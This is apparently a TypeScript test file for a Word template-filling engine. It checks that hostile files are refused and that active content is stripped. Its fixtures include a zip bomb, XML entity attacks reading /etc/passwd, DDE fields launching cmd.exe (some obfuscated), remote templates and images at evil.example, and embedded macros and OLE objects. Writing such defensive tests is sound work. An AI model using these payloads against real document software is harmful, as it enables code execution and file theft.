import { deflateRawSync } from 'node:zlib';
import { beforeAll, describe, expect, test } from 'vitest';
import { ReadingRefusal } from '#engine/reading/refusal.ts';
import { hostileZip } from '#tests/support/hostile-zips.ts';
import { processorClock } from '#tests/support/timing.ts';
import { namespaces, paragraph, partsOf, run, textIn, type WordFile, wordFile } from '#tests/support/word.ts';
import { fillTemplate } from './fill.ts';

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';

function outcome(bytes: Uint8Array): string {
  try {
    return 'docx' in fillTemplate(bytes, { a: 'x' }) ? 'filled' : 'problems';
  } catch (error) {
    if (error instanceof ReadingRefusal) return error.error;
    throw error;
  }
}

function partsFrom(file: WordFile): Map<string, string> {
  const result = fillTemplate(wordFile(file), { a: 'x' });
  if (!('docx' in result)) throw new Error(JSON.stringify(result));
  return partsOf(result.docx);
}
const all = (parts: Map<string, string>) => [...parts].map(([name, text]) => `${name}\n${text}`).join('\n');

describe('refused, quickly', () => {
  const entry = (name: string, data: string | Uint8Array) => ({ name, data });
  const types =
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
  const rels = `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r" Type="${OFFICE}/officeDocument" Target="word/document.xml"/></Relationships>`;
  const withBody = (document: string | Uint8Array) =>
    hostileZip([entry('[Content_Types].xml', types), entry('_rels/.rels', rels), entry('word/document.xml', document)]);
  const document = (body: string) => `<w:document ${namespaces}><w:body>${body}</w:body></w:document>`;
  const deep = 60_000;
  const zeros = Buffer.alloc(70 * 1024 * 1024);
  /** Milliseconds of the processor that an honest template of 50,000 tags takes: no refusal takes longer. */
  let filling = 0;

  beforeAll(() => {
    const honest = wordFile({ body: paragraph('{{a}}').repeat(50_000) });
    const spent = processorClock();
    fillTemplate(honest, { a: 'x' });
    filling = spent();
  });

  test.each<[string, string, () => Uint8Array]>([
    ['no zip', 'unsupported', () => Buffer.from('hello')],
    ['a zip of something else', 'unsupported', () => hostileZip([entry('a.txt', 'x')])],
    [
      'a workbook',
      'unsupported',
      () =>
        hostileZip([
          entry('[Content_Types].xml', types.replace('wordprocessingml.document', 'spreadsheetml.sheet')),
          entry('_rels/.rels', rels),
          entry('word/document.xml', document('')),
        ]),
    ],
    [
      'a bomb',
      'too_large',
      () => hostileZip([{ name: 'word/document.xml', packed: deflateRawSync(zeros), size: zeros.length, checksum: 0 }]),
    ],
    ['entities', 'corrupt', () => withBody(`<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>${document('&b;')}`)],
    [
      'a file as entity',
      'corrupt',
      () => withBody(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${document('&a;')}`),
    ],
    [
      '60,000 content controls, one in the other',
      'too_large',
      () => withBody(document(`${'<w:sdt><w:sdtContent>'.repeat(deep)}${'</w:sdtContent></w:sdt>'.repeat(deep)}`)),
    ],
    [
      'two million paragraphs',
      'too_large',
      () => {
        const parts = [entry('[Content_Types].xml', types), entry('_rels/.rels', rels)];
        return hostileZip([...parts, { ...entry('word/document.xml', document('<w:p/>'.repeat(2_000_000))), method: 0 }]);
      },
    ],
    ['an element that isn’t ended', 'corrupt', () => withBody(document('<w:p>'))],
    ['elements that cross', 'corrupt', () => withBody(document('<w:p><w:r></w:p></w:r>'))],
    ['an attribute with an element in it', 'corrupt', () => withBody(document('<w:p a="<w:object/>"/>'))],
    ['sections of characters', 'corrupt', () => withBody(document('<w:p><![CDATA[<w:object/>]]></w:p>'))],
    ['UTF-16', 'corrupt', () => withBody(Buffer.from(`\ufeff${document('')}`, 'utf16le'))],
    ['another encoding by declaration', 'corrupt', () => withBody(`<?xml version="1.0" encoding="UTF-7"?>${document('')}`)],
    [
      'Word’s elements under another prefix',
      'unsupported',
      () => withBody(document('<q:object xmlns:q="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')),
    ],
    [
      'the same with a coded name',
      'unsupported',
      () => withBody(document('<q:object xmlns:q="http://schemas&#46;openxmlformats.org/wordprocessingml/2006/main"/>')),
    ],
    [
      'the same without a prefix',
      'unsupported',
      () => withBody(document('<object xmlns="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>')),
    ],
  ])('%s (%s)', (_, expected, make) => {
    const bytes = make();
    const spent = processorClock();
    expect(outcome(bytes)).toBe(expected);
    expect(spent()).toBeLessThan(filling);
  });
});

test('10,000 tags and 10,000 sections are only work, 3,000 sections inside one another a problem', () => {
  expect(outcome(wordFile({ body: paragraph('{{#a}}x{{/a}}').repeat(10_000) }))).toBe('filled');
  expect(outcome(wordFile({ body: paragraph('{{a}}').repeat(10_000) }))).toBe('filled');
  expect(outcome(wordFile({ body: paragraph(`${'{{#a}}'.repeat(3000)}x${'{{/a}}'.repeat(3000)}`) }))).toBe('problems');
});

describe('what is active is gone', () => {
  test('macros, with what they hang on', () => {
    const parts = partsFrom({
      body: paragraph('{{a}}'),
      mainType: 'application/vnd.ms-word.document.macroEnabled.main+xml',
      parts: { 'word/vbaProject.bin': 'MACRO', 'word/vbaData.xml': '<wne:vbaSuppData xmlns:wne="x"/>' },
      types: { 'word/vbaProject.bin': 'application/vnd.ms-office.vbaProject', 'word/vbaData.xml': 'application/vnd.ms-word.vbaData+xml' },
      relationships: [{ id: 'rId5', type: 'http://schemas.microsoft.com/office/2006/relationships/vbaProject', target: 'vbaProject.bin' }],
    });
    expect([...parts.keys()].filter((name) => name.includes('vba'))).toEqual([]);
    expect(all(parts)).not.toMatch(/macro|vba/i);
    expect(parts.get('[Content_Types].xml')).toContain('wordprocessingml.document.main+xml');
  });

  test('a macro that calls itself a picture', () => {
    const parts = partsFrom({
      body: paragraph('{{a}}'),
      parts: { 'word/x.bin': 'MACRO' },
      types: { 'word/x.bin': 'application/vnd.ms-office.vbaProject' },
      relationships: [{ id: 'rId5', type: 'image', target: 'x.bin' }],
    });
    expect(parts.has('word/x.bin')).toBe(false);
  });

  test('embedded objects, controls, foreign chunks, with the elements that show them', () => {
    const parts = partsFrom({
      body: `${paragraph('{{a}}')}<w:p><w:r><w:object><v:shape><v:imagedata r:id="rId6"/></v:shape><o:OLEObject ProgID="Package" r:id="rId5"/></w:object></w:r></w:p><w:altChunk r:id="rId7"/><w:p><w:r><w:pict><w:control r:id="rId8" w:name="x"/></w:pict></w:r></w:p>`,
      parts: { 'word/embeddings/o.bin': 'OLE', 'word/chunk.htm': '<script>', 'word/activeX/a.xml': '<x/>' },
      types: {
        'word/embeddings/o.bin': 'application/vnd.openxmlformats-officedocument.oleObject',
        'word/chunk.htm': 'text/html',
        'word/activeX/a.xml': 'application/vnd.ms-office.activeX+xml',
      },
      relationships: [
        { id: 'rId5', type: 'oleObject', target: 'embeddings/o.bin' },
        { id: 'rId7', type: 'aFChunk', target: 'chunk.htm' },
        { id: 'rId8', type: 'control', target: 'activeX/a.xml' },
      ],
    });
    expect([...parts.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'word/document.xml',
      'word/_rels/document.xml.rels',
      'word/styles.xml',
    ]);
    expect(parts.get('word/document.xml')).not.toMatch(/object|altChunk|control|OLE/);
  });

  test('everything outside but links to web and mail', () => {
    const external = (id: string, type: string, target: string) => ({ id, type, target, external: true });
    const parts = partsFrom({
      body: `${paragraph('{{a}}')}<w:p><w:hyperlink r:id="rId5">${run('web')}</w:hyperlink><w:hyperlink r:id="rId6">${run('file')}</w:hyperlink><w:r><w:drawing><a:blip r:link="rId7"/></w:drawing><w:pict><v:shape><v:imagedata src="http://evil.example/x.png" o:href="http://evil.example/y.png"/></v:shape></w:pict></w:r></w:p><w:subDoc r:id="rId8"/>`,
      relationships: [
        external('rId5', 'hyperlink', 'https://example.com/'),
        external('rId6', 'hyperlink', 'file://evil.example/share'),
        external('rId7', 'image', 'http://evil.example/z.png'),
        external('rId8', 'subDocument', 'http://evil.example/d.docx'),
        { id: 'rId9', type: 'settings', target: 'settings.xml' },
      ],
      parts: {
        'word/settings.xml': `<w:settings ${namespaces}><w:attachedTemplate r:id="rId1"/><w:mailMerge><w:dataSource r:id="rId2"/></w:mailMerge><w:zoom w:percent="100"/></w:settings>`,
        'word/_rels/settings.xml.rels': `<Relationships xmlns="x"><Relationship Id="rId1" Type="${OFFICE}/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`,
      },
      types: { 'word/settings.xml': 'application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml' },
    });
    expect(all(parts)).not.toMatch(/evil/);
    expect(all(parts)).not.toMatch(/attachedTemplate|mailMerge|subDoc/);
    expect(parts.get('word/settings.xml')).toContain('w:zoom');
    expect(parts.get('word/document.xml')).toMatch(/<w:hyperlink r:id="rId5">.*web.*<w:hyperlink>.*file/s);
    expect(parts.get('word/_rels/document.xml.rels')?.match(/External/g)).toHaveLength(1);
  });

  const HEADER = 'application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml';
  const headersThatLead = (ways: readonly (readonly [number, number])[]) => {
    const names = [...new Set(ways.flat())];
    const relations = (from: number) =>
      ways
        .filter((way) => way[0] === from)
        .map(([, to]) => `<Relationship Id="r${to}" Type="${OFFICE}/header" Target="h${to}.xml"/>`)
        .join('');
    return partsFrom({
      body: paragraph('{{a}}'),
      relationships: [{ id: 'rId5', type: 'header', target: 'h0.xml' }],
      parts: Object.fromEntries(
        names.flatMap((name) => [
          [`word/h${name}.xml`, `<w:hdr ${namespaces}/>`],
          [`word/_rels/h${name}.xml.rels`, `<Relationships xmlns="x">${relations(name)}</Relationships>`],
        ]),
      ),
      types: Object.fromEntries(names.map((name) => [`word/h${name}.xml`, HEADER])),
    });
  };

  test.each<[string, [number, number][], [number, number]]>([
    ['itself', [[0, 0]], [0, 0]],
    [
      'where it came from, over others',
      [
        [0, 1],
        [1, 2],
        [2, 0],
      ],
      [2, 0],
    ],
    [
      'a part that leads back, beside the way',
      [
        [0, 1],
        [0, 2],
        [1, 2],
        [2, 1],
      ],
      [2, 1],
    ],
  ])('what leads to %s; the rest of the way stays', (_, ways, [lastFrom, lastTo]) => {
    const parts = headersThatLead(ways);
    const kept = (from: number, to: number) => (parts.get(`word/_rels/h${from}.xml.rels`) ?? '').includes(`"h${to}.xml"`);
    expect(ways.filter(([from, to]) => kept(from, to))).toEqual(ways.filter(([from, to]) => from !== lastFrom || to !== lastTo));
  });

  test('what is a hundred parts away', () => {
    const parts = headersThatLead(Array.from({ length: 100 }, (_, index) => [index, index + 1]));
    expect([parts.has('word/h10.xml'), parts.has('word/h20.xml')]).toEqual([true, false]);
  });

  const field = (instruction: string[], result: string) =>
    `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${instruction.map((each) => (each.startsWith('<') ? each : `<w:r><w:instrText>${each}</w:instrText></w:r>`)).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

  test.each([
    ['DDE', field(['DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'], 'shown')],
    ['DDE over several runs', field([' D', 'DE', 'AUTO cmd'], 'shown')],
    ['DDE by quoted letters', field([field(['QUOTE 68 68 69'], 'DDE').replace(/^<w:p>|<\/w:p>$/g, ''), ' cmd'], 'shown')],
    ['a simple field', `<w:p><w:fldSimple w:instr="DDE cmd">${run('shown')}</w:fldSimple></w:p>`],
    ['another file’s text', field(['INCLUDETEXT "/etc/passwd"'], 'shown')],
    ['another host’s picture', field(['INCLUDEPICTURE "http://evil.example/x.png" \\d'], 'shown')],
    ['a macro button', field(['MACROBUTTON Evil click'], 'shown')],
    ['a link to a file', field(['HYPERLINK "\\\\evil.example\\share"'], 'shown')],
  ])('a field: %s; its result stays', (_, body) => {
    const docx = fillTemplate(wordFile({ body: paragraph('{{a}}') + body }), { a: 'x' });
    if (!('docx' in docx)) throw new Error();
    const xml = partsOf(docx.docx).get('word/document.xml') ?? '';
    expect(xml).not.toMatch(/DDE|QUOTE|INCLUDE|MACRO|evil|cmd|fldSimple|fldChar/);
    expect(textIn(docx.docx)).toBe('x\nshown');
  });

  test('harmless fields stay', () => {
    const body =
      paragraph('{{a}}') +
      field([' PAGE '], '1') +
      field(['HYPERLINK "https://example.com"'], 'web') +
      field(['TOC \\o "1-3"'], 'contents');
    expect(
      partsFrom({ body })
        .get('word/document.xml')
        ?.match(/instrText>/g),
    ).toHaveLength(6);
  });

  test('what nothing leads to', () => {
    expect(partsFrom({ body: paragraph('{{a}}'), parts: { 'evil.exe': 'MZ' } }).has('evil.exe')).toBe(false);
  });
});
